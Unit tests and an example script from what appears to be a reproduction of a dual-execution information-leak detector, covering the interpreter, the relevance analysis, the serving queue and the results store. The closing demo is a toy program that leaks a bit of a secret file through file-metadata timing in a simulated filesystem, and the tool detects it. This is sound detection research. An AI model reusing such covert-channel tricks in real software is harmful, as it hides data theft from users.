    assert result.stdout == "nil"


def test_syscalls_through_world():
    world = World()
    world.fs.add_file("/in.txt", "payload")
    result = run(
        """
        fn main() {
          var fd = open("/in.txt", "r");
          var data = read(fd, 100);
          close(fd);
          print(data);
        }
        """,
        world,
    )
    assert result.stdout == "payload"


def test_exit_terminates_all():
    result = run('fn main() { print("a"); exit(3); print("b"); }')
    assert result.stdout == "a"
    assert result.exit_code == 3


def test_main_result_returned():
    result = run("fn main() { return 42; }")
    assert result.result == 42


def test_instrumented_run_produces_same_output():
    source = """
    fn main() {
      var i = 0;
      while (i < 4) { print(i); i = i + 1; }
      print("end");
    }
    """
    plain = run(source)
    instrumented = run(source, plan=True)
    assert plain.stdout == instrumented.stdout
    # Counter maintenance costs a little extra virtual time.
    assert instrumented.time > plain.time


def test_counter_stats_recorded_when_instrumented():
    result = run(
        """
        fn main() {
          print("a");
          print("b");
        }
        """,
        plan=True,
    )
    assert result.stats.counter_samples == [1, 2]
    assert result.stats.max_counter == 2


def test_scoped_call_counter_restored():
    result = run(
        """
        fn f(n) {
          if (n <= 0) { return 0; }
          print(n);
          return f(n - 1);
        }
        fn main() {
          print("pre");
          f(3);
          print("post");
        }
        """,
        plan=True,
    )
    assert result.stdout == "pre321post"
    # Recursion pushes scoped counters: depth must have exceeded 1.
    assert result.stats.max_stack_depth >= 2


def test_instruction_budget_enforced():
    with pytest.raises(InterpreterError):
        run("fn main() { while (1) { } }")


# -- threads --------------------------------------------------------------------


def test_thread_spawn_and_join():
    result = run(
        """
        fn worker(x) { return x * 10; }
        fn main() {
          var t1 = thread_spawn(worker, 1);
          var t2 = thread_spawn(worker, 2);
          print(thread_join(t1) + thread_join(t2));
        }
        """
    )
    assert result.stdout == "30"


def test_threads_share_globals():
    result = run(
        """
        var total = 0;
        fn worker(n) {
          var m = mutex_create();
          total = total + n;
          return 0;
        }
        fn main() {
          var t = thread_spawn(worker, 5);
          thread_join(t);
          print(total);
        }
        """
    )
    assert result.stdout == "5"


def test_mutex_mutual_exclusion():
    result = run(
        """
        var log = "";
        var m = 0;
        fn worker(tag) {
          mutex_lock(m);
          log = log + tag + tag;
          mutex_unlock(m);
          return 0;
        }
        fn main() {
          m = mutex_create();
          var t1 = thread_spawn(worker, "a");
          var t2 = thread_spawn(worker, "b");
          thread_join(t1);
          thread_join(t2);
          print(log);
        }
        """
    )
    # Critical sections never interleave: letters appear in pairs.
    assert result.stdout in ("aabb", "bbaa")


def test_schedule_seed_can_change_racy_interleaving():
    source = """
    var log = "";
    fn worker(tag) {
      print(tag);
      log = log + tag;
      print(tag);
      return 0;
    }
    fn main() {
      var t1 = thread_spawn(worker, "a");
      var t2 = thread_spawn(worker, "b");
      thread_join(t1);
      thread_join(t2);
    }
    """
    outputs = {run(source, seed=s).stdout for s in range(8)}
    # Different seeds may (not must) produce different interleavings,
    # but every interleaving contains the same multiset of characters.
    for output in outputs:
        assert sorted(output) == ["a", "a", "b", "b"]


def test_join_unknown_tid_raises():
    with pytest.raises(InterpreterError):
        run("fn main() { thread_join(99); }")
