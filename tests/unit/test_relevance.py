"""Unit tests for the sink-relevance analysis (paper Algorithm 2).

Edge cases the classifier must get right: calls that only matter
because they abort, environment-channel reads feeding sinks, loop back
edges that reach a syscall, and the all-sink-relevant fixed point where
nothing but structural glue can be elided.
"""

from repro.analysis import compute_relevance
from repro.baselines.native import run_native
from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.interp import relevance_enabled, set_relevance_enabled
from repro.ir import compile_source
from repro.ir import instructions as ins
from repro.vos.world import World


def _relevance(source):
    instrumented = instrument_module(compile_source(source))
    return instrumented, instrumented.plan.relevance


def _indices(module, fn_name, predicate):
    function = module.functions[fn_name]
    return [i for i, instr in enumerate(function.instrs) if predicate(instr)]


def test_dead_computation_is_elidable():
    instrumented, relevance = _relevance(
        """
        fn main() {
          var shown = 1 + 2;
          var wasted = 40 + 2;
          var wasted2 = wasted * 3;
          print(shown);
        }
        """
    )
    main = relevance.functions["main"]
    module = instrumented.module
    binops = _indices(module, "main", lambda i: isinstance(i, ins.Binop))
    # 1 + 2 feeds the print; the wasted chain feeds nothing.
    assert binops[0] in main.relevant
    assert binops[1] in main.elidable
    assert binops[2] in main.elidable
    # The sink itself is always relevant.
    for index in module.functions["main"].syscall_indices():
        assert index in main.relevant


def test_aborting_call_site_is_relevant():
    instrumented, relevance = _relevance(
        """
        fn die() {
          exit(3);
        }
        fn main() {
          var unused = 7 * 7;
          die();
          print(1);
        }
        """
    )
    module = instrumented.module
    main = relevance.functions["main"]
    # die() returns nothing anyone reads, but it reaches an abort
    # syscall: the call site must be sink-relevant.
    calls = _indices(module, "main", lambda i: isinstance(i, ins.CallDirect))
    assert calls, "expected a direct call in main"
    assert all(index in main.relevant for index in calls)
    # The unused product still elides.
    binops = _indices(module, "main", lambda i: isinstance(i, ins.Binop))
    assert all(index in main.elidable for index in binops)


def test_env_channel_taint_reaches_sink():
    instrumented, relevance = _relevance(
        """
        fn main() {
          var secret = getenv("MODE");
          var derived = len(secret) + 1;
          var dropped = len(secret) * 2;
          if (derived > 3) {
            print("long");
          }
        }
        """
    )
    module = instrumented.module
    main = relevance.functions["main"]
    builtins = _indices(
        module, "main", lambda i: isinstance(i, ins.CallBuiltin)
    )
    binops = _indices(module, "main", lambda i: isinstance(i, ins.Binop))
    # The env read is a syscall root; `derived` guards the print so its
    # whole chain (len + add + compare) is relevant.
    function = module.functions["main"]
    relevant_ops = [i for i in binops if i in main.relevant]
    assert relevant_ops, "derived chain must be relevant"
    assert any(i in main.relevant for i in builtins)
    # `dropped` is env-derived but never observed: elidable.
    mul = [
        i
        for i in binops
        if getattr(function.instrs[i], "op", None) == "*"
    ]
    assert mul and all(i in main.elidable for i in mul)


def test_loop_back_edge_reaching_syscall():
    instrumented, relevance = _relevance(
        """
        fn main() {
          var i = 0;
          while (i < 3) {
            print(i);
            i = i + 1;
          }
        }
        """
    )
    module = instrumented.module
    main = relevance.functions["main"]
    # The increment flows into the next iteration's print *and* the
    # loop condition that control-depends the print: both paths make
    # every Binop here relevant.
    binops = _indices(module, "main", lambda i: isinstance(i, ins.Binop))
    cjumps = _indices(module, "main", lambda i: isinstance(i, ins.CJump))
    assert binops and all(i in main.relevant for i in binops)
    assert cjumps and all(i in main.relevant for i in cjumps)


def test_every_syscall_site_is_a_relevant_site():
    # Detections always anchor at syscall sites, and every syscall site
    # is a relevance root: the oracle must accept all of them.
    instrumented, relevance = _relevance(
        """
        fn helper(x) {
          print(x);
          return x + 1;
        }
        fn main() {
          var v = getenv("A");
          helper(len(v));
          exit(0);
        }
        """
    )
    module = instrumented.module
    for fn_name, function in module.functions.items():
        for index in function.syscall_indices():
            name = function.instrs[index].name
            assert relevance.relevant_site(fn_name, name)
    assert not relevance.relevant_site("main", "no_such_syscall")
    assert not relevance.relevant_site("ghost_fn", "print")


def test_classification_partitions_instructions():
    instrumented, relevance = _relevance(
        """
        fn main() {
          var a = 1;
          var b = a + 1;
          print(b);
          var c = b * 2;
        }
        """
    )
    for fn_name, fn_relevance in relevance.functions.items():
        function = instrumented.module.functions[fn_name]
        everything = frozenset(range(len(function.instrs)))
        assert fn_relevance.relevant | fn_relevance.elidable == everything
        assert not (fn_relevance.relevant & fn_relevance.elidable)


def test_region_summaries_are_consistent():
    instrumented, relevance = _relevance(
        """
        fn main() {
          var total = 0;
          var i = 0;
          while (i < 10) {
            total = total + i * i;
            i = i + 1;
          }
          print(total);
        }
        """
    )
    main = relevance.functions["main"]
    assert main.fusible, "a pure loop body must be fusible"
    assert main.regions, "fusible loop body must form a region"
    for region in main.regions:
        assert region.size >= 2
        assert region.head in main.fusible
        assert region.action_count >= 0
    assert main.summarizable_instructions == sum(r.size for r in main.regions)
    payload = relevance.payload()
    assert payload["summarizable"] == relevance.summarizable_count
    assert payload["functions"][0]["function"] == "main"


def test_relevance_is_deterministic():
    source = """
        fn main() {
          var i = 0;
          while (i < 4) {
            print(i);
            i = i + 1;
          }
        }
    """
    instrumented = instrument_module(compile_source(source))
    first = compute_relevance(instrumented.module, instrumented.plan)
    second = compute_relevance(instrumented.module, instrumented.plan)
    for name in first.functions:
        assert first.functions[name].relevant == second.functions[name].relevant
        assert first.functions[name].elidable == second.functions[name].elidable
        assert first.functions[name].fusible == second.functions[name].fusible
    assert first.relevant_syscalls == second.relevant_syscalls


ALL_RELEVANT_SOURCE = """
fn main() {
  var acc = 0;
  var i = 0;
  while (i < 50) {
    acc = acc + i;
    i = i + 1;
  }
  print(acc);
  print(i);
}
"""


def _native_observables(result):
    return (
        result.stdout,
        result.machine.time,
        result.machine.stats.instructions,
        result.machine.stats.edge_actions,
        result.machine.stats.syscalls,
    )


def _dual_observables(result):
    return (
        result.report.summary(),
        [(d.kind, d.where, d.syscall) for d in result.report.detections],
        result.master_stdout,
        result.slave_stdout,
        result.master.time,
        result.slave.time,
        result.master.stats.instructions,
        result.slave.stats.instructions,
        result.master.stats.edge_actions,
        result.slave.stats.edge_actions,
        result.master.stats.counter_samples,
        result.slave.stats.counter_samples,
    )


def test_all_relevant_workload_elides_no_computation():
    instrumented, relevance = _relevance(ALL_RELEVANT_SOURCE)
    module = instrumented.module
    structural = (ins.Nop, ins.Jump, ins.Ret)
    for fn_name, fn_relevance in relevance.functions.items():
        function = module.functions[fn_name]
        for index in fn_relevance.elidable:
            assert isinstance(function.instrs[index], structural), (
                f"{fn_name}[{index}] {function.instrs[index]} elided "
                "in an all-relevant workload"
            )


def test_all_relevant_workload_byte_identical_on_off():
    instrumented, _ = _relevance(ALL_RELEVANT_SOURCE)
    module = instrumented.module
    config = LdxConfig(sources=SourceSpec(), sinks=SinkSpec(syscall_names=()))
    saved = relevance_enabled()
    observed = {}
    try:
        for enabled in (True, False):
            set_relevance_enabled(enabled)
            config.interp_backend = "threaded"
            native = run_native(
                module, World(seed=1), plan=instrumented.plan, backend="threaded"
            )
            dual = run_dual(instrumented, World(seed=1), config)
            observed[enabled] = (
                _native_observables(native),
                _dual_observables(dual),
            )
    finally:
        set_relevance_enabled(saved)
    assert observed[True] == observed[False]
