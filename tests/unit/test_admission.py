"""Unit tests for the admission queue (bounds, shedding, grouping)."""

from repro.serve.admission import FAIRNESS_LIMIT, Admitted, AdmissionQueue, ShedReason


def _entry(key="k", warm=False):
    return Admitted(request=object(), module_key=key, warm=warm, enqueued_at=0.0)


def test_fifo_below_watermark():
    queue = AdmissionQueue(capacity=8)
    for index in range(3):
        assert queue.offer(_entry(f"k{index}")) is None
    assert queue.take().module_key == "k0"
    assert queue.take().module_key == "k1"
    assert queue.take().module_key == "k2"


def test_capacity_sheds_everything():
    queue = AdmissionQueue(capacity=2, high_watermark=2)
    assert queue.offer(_entry(warm=True)) is None
    assert queue.offer(_entry(warm=True)) is None
    assert queue.offer(_entry(warm=True)) == ShedReason.QUEUE_FULL
    assert queue.snapshot()["shed"][ShedReason.QUEUE_FULL] == 1


def test_watermark_sheds_cold_keeps_warm():
    queue = AdmissionQueue(capacity=8, high_watermark=2)
    assert queue.offer(_entry()) is None
    assert queue.offer(_entry()) is None
    # At the watermark: cold shed, warm admitted.
    assert queue.offer(_entry(warm=False)) == ShedReason.WATERMARK_COLD
    assert queue.offer(_entry(warm=True)) is None
    assert queue.depth == 3


def test_draining_sheds_everything_but_drains_backlog():
    queue = AdmissionQueue(capacity=8)
    assert queue.offer(_entry("a")) is None
    queue.begin_drain()
    assert queue.offer(_entry("b", warm=True)) == ShedReason.DRAINING
    assert queue.take().module_key == "a"
    assert queue.take(timeout=0.01) is None


def test_batch_grouping_prefers_same_key():
    queue = AdmissionQueue(capacity=8)
    queue.offer(_entry("a"))
    queue.offer(_entry("b"))
    queue.offer(_entry("a"))
    # A worker that just served "a" gets the queued "a" ahead of "b".
    assert queue.take(prefer_key="a").module_key == "a"
    assert queue.take(prefer_key="a").module_key == "a"
    assert queue.take(prefer_key="a").module_key == "b"


def test_fairness_limit_caps_preferred_streak():
    queue = AdmissionQueue(capacity=2 * FAIRNESS_LIMIT + 4)
    queue.offer(_entry("head"))
    for _ in range(FAIRNESS_LIMIT + 2):
        queue.offer(_entry("hot"))
    served = [queue.take(prefer_key="hot").module_key for _ in range(FAIRNESS_LIMIT + 1)]
    # The head request is served before the streak can exceed the limit.
    assert "head" in served


def test_take_times_out_empty():
    queue = AdmissionQueue(capacity=2)
    assert queue.take(timeout=0.01) is None


def test_saturated_tracks_watermark():
    queue = AdmissionQueue(capacity=4, high_watermark=2)
    assert not queue.saturated
    queue.offer(_entry(warm=True))
    queue.offer(_entry(warm=True))
    assert queue.saturated
