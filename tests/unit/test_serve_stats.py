"""Counter-consistency tests for the service's /statz accounting.

Regression: ``served``/``errors`` were incremented under
``_stats_lock`` but read without it, so a /statz probe racing the
workers could observe torn snapshots, and rejections were not counted
at all — making ``served + rejected == submitted`` impossible to
verify.  Every request must be accounted exactly once.
"""

import threading

from repro.serve import LdxService, ServeConfig
from repro.serve import api


class _Null:
    def write(self, text):
        return len(text)

    def flush(self):
        pass


def _service(**kwargs) -> LdxService:
    config = ServeConfig(log_stream=_Null(), **kwargs)
    return LdxService(config)


def _stub_serve(service, fail_ids=()):
    """Replace the engine-backed _serve with an instant responder."""

    def serve(request, entry, queue_wait, started):
        if request.id in fail_ids:
            raise RuntimeError("stubbed engine blow-up")
        return {
            "status": api.STATUS_OK,
            "id": request.id,
            "degradation": {"engine_failures": []},
        }

    service._serve = serve


def test_concurrent_storm_accounts_every_request():
    service = _service(workers=3, queue_capacity=4)
    fail_ids = {f"r-{i}" for i in range(0, 200, 17)}
    _stub_serve(service, fail_ids)
    service.start()

    total = 200
    submitted = []
    submitted_lock = threading.Lock()
    snapshots = []
    stop_probe = threading.Event()

    def probe():
        # Hammer stats() while the storm runs: must never raise and
        # must always be internally consistent.
        while not stop_probe.is_set():
            snapshot = service.stats()
            snapshots.append(snapshot)

    def client(start, step):
        for index in range(start, total, step):
            payload = {
                "id": f"r-{index}",
                "workload": ("gzip", "bzip2", "tnftp")[index % 3],
                "variant": "leak",
            }
            if index % 13 == 0:
                payload = "{ not json"  # invalid -> immediate rejection
            ticket = service.submit(payload)
            response = ticket.wait(30.0)
            assert response is not None, f"request {index} hung"
            with submitted_lock:
                submitted.append(response["status"])

    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    clients = [
        threading.Thread(target=client, args=(start, 8), daemon=True)
        for start in range(8)
    ]
    for thread in clients:
        thread.start()
    for thread in clients:
        thread.join()
    stop_probe.set()
    prober.join()
    assert service.drain(timeout=30.0)

    assert len(submitted) == total
    stats = service.stats()
    # The satellite's invariant: every submission is accounted exactly
    # once — served by a worker or rejected at admission.
    assert stats["served"] + stats["rejected"] == total
    assert stats["errors"] == len(
        [status for status in submitted if status == api.STATUS_ERROR]
    )
    # Rejections seen by clients match the service's count.
    rejected_statuses = (
        api.STATUS_INVALID, api.STATUS_OVERLOADED, api.STATUS_UNAVAILABLE
    )
    client_rejections = len(
        [status for status in submitted if status in rejected_statuses]
    )
    assert stats["rejected"] == client_rejections
    # Mid-storm snapshots were always consistent partial sums.
    for snapshot in snapshots:
        assert snapshot["served"] + snapshot["rejected"] <= total
        assert snapshot["errors"] <= snapshot["served"]


def test_stats_exposes_rejected_counter_at_rest():
    service = _service(workers=1, queue_capacity=2)
    stats = service.stats()
    assert stats["served"] == 0
    assert stats["errors"] == 0
    assert stats["rejected"] == 0
    response = service.submit("definitely } not json").wait(5.0)
    assert response["status"] == api.STATUS_INVALID
    assert service.stats()["rejected"] == 1
