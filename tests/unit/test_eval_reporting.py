"""Unit tests for the evaluation helpers and renderers."""

import pytest

from repro.eval.reporting import arithmetic_mean, format_table, geometric_mean
from repro.eval.table1 import measure_workload as table1_row
from repro.eval.table2 import measure_workload as table2_row
from repro.eval.table3 import measure_workload as table3_row
from repro.eval.table4 import Table4Row


def test_format_table_alignment():
    text = format_table(["name", "n"], [["alpha", 1], ["b", 200]], title="T")
    lines = text.splitlines()
    assert lines[0] == "T"
    assert "alpha" in text and "200" in text
    # All data rows have equal rendered width.
    widths = {len(line) for line in lines[2:]}
    assert len(widths) == 1


def test_means():
    assert geometric_mean([1.0, 4.0]) == pytest.approx(2.0)
    assert geometric_mean([]) == 0.0
    assert arithmetic_mean([1.0, 3.0]) == 2.0
    assert arithmetic_mean([]) == 0.0


def test_geometric_mean_rejects_non_positive_values():
    # Regression: zeros/negatives used to be silently filtered out,
    # inflating the mean of whatever survived.
    with pytest.raises(ValueError, match="positive"):
        geometric_mean([1.0, 0.0, 4.0])
    with pytest.raises(ValueError, match="positive"):
        geometric_mean([-2.0])
    # The offending values are named in the error.
    with pytest.raises(ValueError, match=r"\[0\.0\]"):
        geometric_mean([2.0, 0.0])


def test_format_table_rejects_mismatched_rows():
    # Regression: a row with extra cells crashed with a bare IndexError
    # inside the width pass; a short row rendered silently misaligned.
    with pytest.raises(ValueError, match="row 1 has 3 cells for 2 headers"):
        format_table(["a", "b"], [["x", 1], ["y", 2, 3]])
    with pytest.raises(ValueError, match="row 0 has 1 cells for 2 headers"):
        format_table(["a", "b"], [["only"]])


def test_table1_row_fields():
    row = table1_row("bzip2")
    assert row.loc > 0
    assert row.instrumented_sites > 0
    assert row.dyn_max_counter <= row.max_static_counter
    assert len(row.as_list()) == 13


def test_table2_row_for_two_sided_workload():
    row = table2_row("bzip2")
    assert row.ldx_input1 == "O"
    assert row.ldx_input2 == "X"
    assert row.total_syscalls > 0


def test_table2_row_for_one_sided_workload():
    row = table2_row("libquantum")
    assert row.ldx_input1 == "O"
    assert row.ldx_input2 == "-"
    assert row.tightlip_input2 == "-"


def test_table3_row_subset_structure():
    row = table3_row("gcc")
    assert row.libdft <= row.taintgrind <= row.ldx
    assert row.total_sinks >= row.ldx - row.total_sinks  # sane bounds


def test_table4_row_statistics():
    row = Table4Row("demo", diffs=[1, 3, 2], sinks=[5, 5, 5])
    rendered = row.as_list()
    assert rendered[0] == "demo"
    assert rendered[1].startswith("1 / 3 /")
    assert rendered[2] == "5 / 5 / 0.00"
