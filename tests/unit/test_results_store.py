"""Unit tests for the columnar results store (repro.results).

The store's contract mirrors the artifact cache's: an accelerator,
never a correctness dependency.  Damage of any kind — torn writes,
corrupt pickles, digest mismatches, foreign schema tags — heals to a
miss, and a store that cannot operate degrades to a no-op instead of
failing the experiment.
"""

import os
import sqlite3

import pytest

from repro.cache import RESULTS_SCHEMA_TAG, result_cell_key
from repro.results import CellSpec, ResultsStore
from repro.results.keys import spec_for_cell


def _spec(key: str = "k1", workload: str = "gzip") -> CellSpec:
    return CellSpec(
        key=key,
        kind="table1",
        workload=workload,
        variant="default",
        fingerprint="fp1",
    )


@pytest.fixture
def store(tmp_path):
    store = ResultsStore(str(tmp_path / "results.sqlite"))
    yield store
    store.close()


def test_round_trip(store):
    payload = {"rows": [1, 2, 3], "name": "gzip"}
    assert store.get_cell("k1") is None
    store.put_cell(_spec(), payload)
    loaded = store.get_cell("k1")
    assert loaded == payload
    # Fresh unpickle per load: mutating one copy must not leak into the
    # next (ChaosRow.merge is destructive).
    loaded["rows"].append(4)
    assert store.get_cell("k1") == payload


def test_round_trip_across_reopen(store):
    store.put_cell(_spec(), [1, 2])
    store.close()
    reopened = ResultsStore(store.path)
    assert reopened.get_cell("k1") == [1, 2]
    assert reopened.cell_count("table1") == 1
    reopened.close()


def test_get_cells_maps_only_present_keys(store):
    store.put_cell(_spec("a"), "A")
    store.put_cell(_spec("b", workload="bzip2"), "B")
    found = store.get_cells(["a", "b", "missing"])
    assert found == {"a": "A", "b": "B"}


def test_corrupt_payload_heals_to_miss(store):
    store.put_cell(_spec(), {"ok": True})
    store.close()
    conn = sqlite3.connect(store.path)
    with conn:
        conn.execute(
            "UPDATE cells SET payload = ? WHERE key = 'k1'", (b"garbage",)
        )
    conn.close()
    reopened = ResultsStore(store.path)
    assert reopened.get_cell("k1") is None  # digest mismatch -> miss
    # ... and the damaged row is gone, so a re-put works cleanly.
    assert reopened.cell_count() == 0
    reopened.put_cell(_spec(), {"ok": True})
    assert reopened.get_cell("k1") == {"ok": True}
    reopened.close()


def test_torn_write_truncation_heals_to_empty_store(store):
    store.put_cell(_spec(), list(range(1000)))
    store.close()
    # Simulate a torn write: the file is cut mid-page.
    size = os.path.getsize(store.path)
    with open(store.path, "r+b") as handle:
        handle.truncate(size // 3)
    reopened = ResultsStore(store.path)
    assert reopened.get_cell("k1") is None
    assert reopened.enabled  # healed, not disabled
    reopened.put_cell(_spec(), "fresh")
    assert reopened.get_cell("k1") == "fresh"
    reopened.close()


def test_garbage_file_heals_at_open(store):
    store.close()
    with open(store.path, "wb") as handle:
        handle.write(b"this is not a sqlite database at all")
    reopened = ResultsStore(store.path)
    assert reopened.get_cell("anything") is None
    reopened.put_cell(_spec(), 42)
    assert reopened.get_cell("k1") == 42
    assert reopened.stats.healed >= 1
    reopened.close()


def test_foreign_schema_tag_orphans_the_store(store):
    store.put_cell(_spec(), "old")
    store.close()
    conn = sqlite3.connect(store.path)
    with conn:
        conn.execute("UPDATE meta SET value = 'ldx-results-v0' WHERE name = 'schema'")
    conn.close()
    reopened = ResultsStore(store.path)
    assert reopened.get_cell("k1") is None  # incompatible rows never load
    reopened.close()


def test_supersede_replaces_stale_fingerprint_rows(store):
    """Same coordinates + changed config: the old row must go away, or
    a rolled-back config would report the new config's results."""
    old = CellSpec(key="old-key", kind="figure6", workload="gzip",
                   variant="figure6", fingerprint="cfg-old")
    new = CellSpec(key="new-key", kind="figure6", workload="gzip",
                   variant="figure6", fingerprint="cfg-new")
    store.put_cell(old, "old-result")
    store.put_cell(new, "new-result")
    assert store.get_cell("old-key") is None
    assert store.get_cell("new-key") == "new-result"
    assert store.cell_count("figure6") == 1


def test_disabled_store_is_a_no_op(tmp_path):
    store = ResultsStore(str(tmp_path / "r.sqlite"), enabled=False)
    store.put_cell(_spec(), "x")
    assert store.get_cell("k1") is None
    assert not os.path.exists(store.path)
    store.close()


def test_unopenable_path_disables_instead_of_raising(tmp_path):
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where the store wants a directory")
    store = ResultsStore(str(blocker / "r.sqlite"))
    store.put_cell(_spec(), "x")  # must not raise
    assert store.get_cell("k1") is None
    assert not store.enabled
    store.close()


def test_run_metadata_round_trip(store):
    assert store.latest_run("eval") is None
    store.record_run("eval", {"table4_runs": 3, "check_static": False},
                     planned=92, executed=92, reused=0)
    store.record_run("eval", {"table4_runs": 3, "check_static": True},
                     planned=120, executed=28, reused=92)
    run = store.latest_run("eval")
    assert run["params"]["check_static"] is True
    assert run["planned"] == 120
    assert run["executed"] == 28
    assert run["reused"] == 92
    assert store.latest_run("chaos") is None


def test_bench_history_series(store):
    store.record_bench("storm", {"requests": 60.0, "skipme": "text"},
                       {"workers": 2})
    store.record_bench("storm", {"requests": 80.0})
    store.record_bench("other", {"mean": 1.5})
    series = store.bench_series("storm")
    assert len(series) == 1
    assert series[0]["values"] == [60.0, 80.0]
    everything = store.bench_series()
    assert {entry["bench"] for entry in everything} == {"storm", "other"}


def test_cell_keys_are_stable_and_source_sensitive():
    cell = ("table1", ("gzip",))
    spec1 = spec_for_cell(cell)
    spec2 = spec_for_cell(cell)
    assert spec1.key == spec2.key
    assert spec1.kind == "table1"
    assert spec1.workload == "gzip"
    # Different workload -> different key.
    assert spec_for_cell(("table1", ("bzip2",))).key != spec1.key
    # Different kind over the same workload -> different key.
    assert spec_for_cell(("table2", ("gzip",))).key != spec1.key


def test_chaos_keys_ignore_checkpoint_dir_but_not_config():
    base = ("chaos", ("gzip", (0, 1, 2), 0.1, 25_000.0, None))
    elsewhere = ("chaos", ("gzip", (0, 1, 2), 0.1, 25_000.0, "/tmp/ckpt"))
    assert spec_for_cell(base).key == spec_for_cell(elsewhere).key
    other_rate = ("chaos", ("gzip", (0, 1, 2), 0.2, 25_000.0, None))
    assert spec_for_cell(other_rate).key != spec_for_cell(base).key
    other_seeds = ("chaos", ("gzip", (3, 4, 5), 0.1, 25_000.0, None))
    assert spec_for_cell(other_seeds).key != spec_for_cell(base).key
    # Config changes move the fingerprint; coordinate changes don't.
    assert spec_for_cell(other_rate).fingerprint != spec_for_cell(base).fingerprint
    assert spec_for_cell(other_seeds).fingerprint == spec_for_cell(base).fingerprint


def test_result_cell_key_ties_to_schema_tag():
    key = result_cell_key("int main() {}", {"kind": "table1"})
    assert RESULTS_SCHEMA_TAG == "ldx-results-v1"
    assert len(key) == 64  # sha256 hex
    assert key != result_cell_key("int main() { return 1; }", {"kind": "table1"})
