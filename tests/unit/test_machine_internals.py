"""Unit tests for Machine internals: clocks, stats, driver protocol."""

import pytest

from repro.errors import InterpreterError
from repro.instrument import instrument_module
from repro.interp.events import SyscallEvent
from repro.interp.machine import Machine
from repro.ir import compile_source
from repro.vos.kernel import Kernel
from repro.vos.world import World


def machine_for(source, plan=False, seed=0):
    module = compile_source(source)
    module_plan = instrument_module(module).plan if plan else None
    return Machine(module, Kernel(World(seed=1)), plan=module_plan, schedule_seed=seed)


def test_next_event_surfaces_syscall():
    machine = machine_for('fn main() { print("x"); }')
    event = machine.next_event()
    assert isinstance(event, SyscallEvent)
    assert event.name == "print"
    assert event.args == ("x",)


def test_next_event_returns_none_while_waiting_on_driver():
    machine = machine_for('fn main() { print("x"); }')
    machine.next_event()
    # The pending syscall is unresolved; the machine yields control
    # instead of raising.
    assert machine.next_event() is None
    assert not machine.finished


def test_complete_syscall_resumes_and_finishes():
    machine = machine_for('fn main() { print("x"); }')
    event = machine.next_event()
    machine.complete_syscall(event, 1)
    assert machine.next_event() is None
    assert machine.finished


def test_stale_completion_rejected():
    machine = machine_for('fn main() { print("x"); print("y"); }')
    first = machine.next_event()
    machine.complete_syscall(first, 1)
    second = machine.next_event()
    with pytest.raises(InterpreterError):
        machine.complete_syscall(first, 1)  # stale event
    machine.complete_syscall(second, 1)


def test_terminate_marks_everything_done():
    machine = machine_for('fn main() { print("x"); }')
    machine.next_event()
    machine.terminate(9)
    assert machine.finished
    assert machine.exit_code == 9
    assert all(t.done for t in machine.threads)


def test_wait_until_never_rewinds():
    machine = machine_for('fn main() { print("x"); }')
    machine.next_event()
    machine.charge(0, 100.0)
    before = machine.threads[0].clock
    machine.wait_until(0, before - 50.0)
    assert machine.threads[0].clock == pytest.approx(before)
    machine.wait_until(0, before + 400.0)
    assert machine.threads[0].clock == pytest.approx(before + 400.0)


def test_time_is_max_over_threads():
    machine = machine_for(
        """
        fn worker(x) { return x; }
        fn main() { thread_join(thread_spawn(worker, 1)); }
        """
    )
    from repro.interp.resolve import resolve_event_locally

    while True:
        event = machine.next_event()
        if event is None:
            break
        resolve_event_locally(machine, event)
    assert machine.time == max(t.clock for t in machine.threads)


def test_syscall_cost_jitter_is_seeded():
    a = machine_for('fn main() { }', seed=3)
    b = machine_for('fn main() { }', seed=3)
    assert [a.syscall_cost() for _ in range(5)] == [b.syscall_cost() for _ in range(5)]
    c = machine_for('fn main() { }', seed=4)
    assert [a.syscall_cost() for _ in range(5)] != [c.syscall_cost() for _ in range(5)]


def test_counter_samples_and_depth_tracked():
    machine = machine_for(
        """
        fn rec(n) { if (n > 0) { print(n); rec(n - 1); } return 0; }
        fn main() { rec(2); }
        """,
        plan=True,
    )
    from repro.interp.resolve import resolve_event_locally

    while True:
        event = machine.next_event()
        if event is None:
            break
        resolve_event_locally(machine, event)
    assert machine.stats.syscalls == 2
    assert machine.stats.max_stack_depth >= 2
    assert len(machine.stats.counter_samples) == 2


def test_spawn_thread_requires_function_ref():
    machine = machine_for('fn main() { }')
    with pytest.raises(InterpreterError):
        machine.spawn_thread("not-a-function", None)


def test_internal_deadlock_detected():
    machine = machine_for(
        """
        fn main() {
          var m = mutex_create();
          mutex_lock(m);
          mutex_lock(m);
        }
        """
    )
    from repro.interp.resolve import resolve_event_locally

    with pytest.raises(InterpreterError, match="deadlock"):
        while True:
            event = machine.next_event()
            if event is None:
                break
            resolve_event_locally(machine, event)


def test_double_unlock_returns_error_code():
    machine = machine_for(
        """
        fn main() {
          var m = mutex_create();
          mutex_lock(m);
          mutex_unlock(m);
          print(mutex_unlock(m));
        }
        """
    )
    from repro.interp.resolve import resolve_event_locally

    printed = []
    while True:
        event = machine.next_event()
        if event is None:
            break
        if isinstance(event, SyscallEvent) and event.name == "print":
            printed.append(event.args[0])
        resolve_event_locally(machine, event)
    assert printed == [-1]
