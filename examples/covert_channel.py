#!/usr/bin/env python3
"""Extension demo: the file-metadata covert channel.

The paper's limitations section: "information can be disclosed through
... file metadata (e.g., last accessed time). We will leave it to our
future work."  This reproduction ships that future work as an offline
filesystem-differencing pass over the two executions' final states:
content and existence divergences, plus (opt-in) metadata divergences.

Run:  python examples/covert_channel.py
"""

from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World

# The marker file's *content* never changes; whether it gets rewritten
# (bumping its mtime) encodes one bit of the secret.
PROGRAM = """
fn main() {
  var fd = open("/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  sleep(500);
  if (x % 2 == 1) {
    var f = open("/shared/marker.txt", "w");
    write(f, "constant contents");
    close(f);
  }
  print("done");
}
"""


def main() -> None:
    world = World(seed=1)
    world.fs.add_file("/secret", "7")
    world.fs.add_file("/shared/marker.txt", "constant contents")
    config = LdxConfig(
        sources=SourceSpec(file_paths={"/secret"}),
        sinks=SinkSpec.network_out(),  # no network output at all
    )
    result = run_dual(instrument_module(compile_source(PROGRAM)), world, config)

    print("online sink comparison:", result.report.summary())
    print("content differencing:", result.fs_divergences())
    print("with metadata differencing:")
    for divergence in result.fs_divergences(include_metadata=True):
        print(f"  {divergence.kind} {divergence.path}: "
